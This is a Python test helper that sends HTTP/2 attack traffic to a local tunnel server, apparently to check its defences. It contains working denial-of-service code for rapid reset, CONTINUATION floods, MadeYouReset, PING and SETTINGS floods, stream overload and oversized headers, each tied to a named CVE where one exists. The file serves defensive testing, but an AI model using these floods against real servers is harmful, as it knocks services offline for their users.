"""HTTP/2 attacks on the tunnel's edge, frame by frame (Debian's python3-h2
and its hpack and hyperframe): server/tests/http2.rs runs one mode per call
and reads the one line it prints. Usage: h2_attacks.py MODE HTTPS_PORT AUTHORITY
"""
import socket, ssl, sys
import h2.config, h2.connection, h2.errors, h2.events, h2.settings
from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import HeadersFrame, ContinuationFrame, WindowUpdateFrame, PingFrame, SettingsFrame

mode, port, authority = sys.argv[1], int(sys.argv[2]), sys.argv[3]
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
ctx.set_alpn_protocols(["h2"])
sock = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname=authority.split(":")[0])
assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
cfg = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
conn = h2.connection.H2Connection(cfg)
if mode == "stalled-window":
    conn.local_settings = h2.settings.Settings(client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
conn.initiate_connection()
sock.sendall(conn.data_to_send())

def headers(path):
    return [(":method", "GET"), (":path", path), (":scheme", "https"), (":authority", authority)]

def send(data):
    try:
        sock.sendall(data)
        return True
    except OSError:
        return False

def drain(seconds):
    """Reads until the server closes, says GOAWAY, or `seconds` pass: what it said."""
    sock.settimeout(seconds)
    seen = []
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                seen.append("EOF")
                return seen
            try:
                events = conn.receive_data(data)
            except Exception as e:
                seen.append("protocol:" + type(e).__name__)
                return seen
            for e in events:
                if isinstance(e, h2.events.ConnectionTerminated):
                    seen.append("GOAWAY:" + h2.errors.ErrorCodes(e.error_code).name)
                    return seen
                if isinstance(e, h2.events.StreamReset):
                    seen.append("RST")
                if isinstance(e, h2.events.ResponseReceived):
                    seen.append("RESPONSE")
                    status = dict(e.headers).get(":status")
                    if status:
                        seen.append("STATUS:" + status)
            out = conn.data_to_send()
            if out:
                send(out)
    except (socket.timeout, TimeoutError):
        seen.append("TIMEOUT")
    except (ConnectionResetError, BrokenPipeError, ssl.SSLError) as e:
        seen.append("CLOSED")
    return seen

if mode == "rapid-reset":
    # HEADERS then RST_STREAM at once, 1000 times (CVE-2023-44487).
    for _ in range(1000):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers("/slow"), end_stream=True)
        conn.reset_stream(sid)
    send(conn.data_to_send())
    seen = drain(10)
    print(seen[-1], seen.count("RESPONSE"))
elif mode == "continuation":
    # One HEADERS without END_HEADERS, then CONTINUATION frames of 4 KiB
    # fields, never ending (CVE-2024-27316): how much went before the
    # server stopped it.
    enc = Encoder()
    f = HeadersFrame(1)
    f.data = enc.encode(headers("/"))
    f.flags.add("END_STREAM")
    send(f.serialize())
    sent = 0
    sock.settimeout(0.001)
    while sent < 64 << 20:
        c = ContinuationFrame(1)
        c.data = enc.encode([NeverIndexedHeaderTuple("x-filler-%d" % sent, "a" * 4000)], huffman=False)
        if not send(c.serialize()):
            break
        sent += len(c.data)
        try:
            if sock.recv(65536) == b"":
                break
        except (socket.timeout, TimeoutError, ssl.SSLWantReadError):
            pass
        except OSError:
            break
    print("sent", sent)
elif mode == "made-you-reset":
    # Streams the server must reset itself (a WINDOW_UPDATE that overflows
    # a stream's window is a stream error), 1000 times (CVE-2025-8671).
    out = b""
    for _ in range(1000):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers("/slow"), end_stream=True)
        out += conn.data_to_send()
        w = WindowUpdateFrame(sid)
        w.window_increment = 2**31 - 1
        out += w.serialize()
    send(out)
    seen = drain(10)
    print(seen[-1], seen.count("RST"))
elif mode in ("ping-flood", "settings-flood"):
    # 200 000 PINGs (or empty SETTINGS) sent without reading the answers.
    frame = PingFrame(0) if mode == "ping-flood" else SettingsFrame(0)
    if mode == "ping-flood":
        frame.opaque_data = b"12345678"
    one = frame.serialize()
    batch = one * 1000
    sock.settimeout(5)
    n = 0
    for _ in range(200):
        if not send(batch):
            break
        n += 1000
    print("sent", n)
elif mode == "too-many-streams":
    # 150 requests at once where the server allows 100: the rest refused
    # (past 100 refusals the connection would be closed: MadeYouReset's cap).
    # Raw frames (the library would hold to the server's limit itself).
    from hyperframe.frame import Frame, RstStreamFrame
    enc = Encoder()
    out = b""
    for i in range(150):
        f = HeadersFrame(1 + 2 * i)
        f.data = enc.encode(headers("/slow"))
        f.flags.add("END_HEADERS")
        f.flags.add("END_STREAM")
        out += f.serialize()
    send(out)
    sock.settimeout(10)
    buf, answered, refused = b"", 0, 0
    try:
        while answered + refused < 150:
            data = sock.recv(65536)
            if not data:
                break
            buf += data
            while len(buf) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(buf[:9]))
                if len(buf) < 9 + length:
                    break
                frame.parse_body(memoryview(buf[9:9 + length]))
                buf = buf[9 + length:]
                if isinstance(frame, HeadersFrame):
                    answered += 1
                elif isinstance(frame, RstStreamFrame) and frame.error_code == 7:
                    refused += 1
    except (socket.timeout, TimeoutError):
        pass
    print("answered", answered, "refused", refused)
elif mode == "huge-headers":
    # One request with 100 KiB of fields, over the 64 KiB limit.
    sid = conn.get_next_available_stream_id()
    big = headers("/") + [("x-big-%d" % i, "b" * 1000) for i in range(100)]
    conn.send_headers(sid, big, end_stream=True)
    send(conn.data_to_send())
    seen = drain(5)
    print(" ".join(x for x in seen if x != "TIMEOUT") or "nothing")
elif mode == "stalled-window":
    # A large response asked for with a window of 0 that never opens.
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, headers("/big"), end_stream=True)
    send(conn.data_to_send())
    seen = drain(3)
    print(seen[-1] if seen else "nothing")
elif mode == "cancel":
    # A request reset by the visitor after its headers went (RST_STREAM
    # CANCEL): the local service's request must be cut.
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, headers("/slow"), end_stream=True)
    send(conn.data_to_send())
    # The local service has it once its headers come back.
    seen = []
    while "RESPONSE" not in seen and "TIMEOUT" not in seen:
        seen += drain(10)
    conn.reset_stream(sid)
    send(conn.data_to_send())
    print("reset")
    sys.stdout.flush()
    drain(2)
